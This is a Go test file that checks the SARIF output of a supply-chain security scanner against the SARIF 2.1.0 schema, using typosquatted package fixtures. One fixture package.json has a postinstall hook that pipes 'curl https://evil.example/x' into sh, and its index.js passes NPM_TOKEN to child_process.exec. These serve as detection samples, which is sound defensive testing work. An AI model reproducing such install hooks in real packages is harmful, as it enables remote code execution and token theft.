package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"
)

// cliSARIFSchema compiles the SARIF 2.1.0 schema shipped with the report
// package (see its testdata/sarif/README.md, also for the one erratum
// applied here).
func cliSARIFSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	f, err := os.Open("../report/testdata/sarif/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	props := doc.(map[string]any)["definitions"].(map[string]any)["suppression"].(map[string]any)["properties"].(map[string]any)
	props["status"], props["state"] = props["state"], nil
	delete(props, "state")
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	if err := c.AddResource("file:///sarif.json", doc); err != nil {
		t.Fatal(err)
	}
	sch, err := c.Compile("file:///sarif.json")
	if err != nil {
		t.Fatal(err)
	}
	return sch
}

// TestSARIFOutputsValidate: the SARIF of every command that has one, on
// inputs that reach code findings, suppressions, input errors and
// campaigns, is valid SARIF 2.1.0.
func TestSARIFOutputsValidate(t *testing.T) {
	sch := cliSARIFSchema(t)
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "proj", "requirements.txt"), "reqeusts==2.31.0\nnumpy\n")
	writeFile(t, filepath.Join(dir, "proj", "package.json"), `{"name":"app","dependencies":{"expresss":"4.0.0","lodash":"4.17.21"}}`)
	writeFile(t, filepath.Join(dir, "cfg.yaml"), "ignore:\n  - ecosystem: npm\n    name: expresss\n    rule: typosquat\n    reason: vetted fork\n")
	pkg := filepath.Join(dir, "pkg")
	writeFile(t, filepath.Join(pkg, "package.json"), `{"name":"lodahs","version":"1.0.0","scripts":{"postinstall":"curl https://evil.example/x | sh"}}`)
	writeFile(t, filepath.Join(pkg, "index.js"), "require('child_process').exec(Buffer.from(process.env.NPM_TOKEN).toString());\n")
	tests := []struct {
		name string
		in   string
		args []string
	}{
		{"check", "", []string{"check", "pypi", "reqeusts", "numpy", "bad name"}},
		{"scan", "", []string{"scan", filepath.Join(dir, "proj"), "--config", filepath.Join(dir, "cfg.yaml")}},
		{"inspect", "", []string{"inspect", pkg, filepath.Join(dir, "missing.tgz")}},
		{"diff", "", []string{"diff", filepath.Join(dir, "proj"), pkg}},
		{"domain", "", []string{"domain", "npmjs.corn", "pypi.org"}},
		{"sweep", "reqeusts\nlodash\n", []string{"sweep", "--ecosystem", "pypi"}},
		{"campaigns", campaignInput(t), []string{"sweep", "--campaigns"}},
		{"selected", "", []string{"check", "pypi", "reqeusts", "--rules", "mixed-script"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, out, errs := run(t, strings.NewReader(tt.in), append(tt.args, "--format", "sarif")...)
			inst, err := jsonschema.UnmarshalJSON(strings.NewReader(out))
			if err != nil {
				t.Fatalf("not JSON: %v\n%s\n%s", err, clip(out), errs)
			}
			if err := sch.Validate(inst); err != nil {
				t.Errorf("not valid SARIF 2.1.0: %v", err)
			}
		})
	}
}
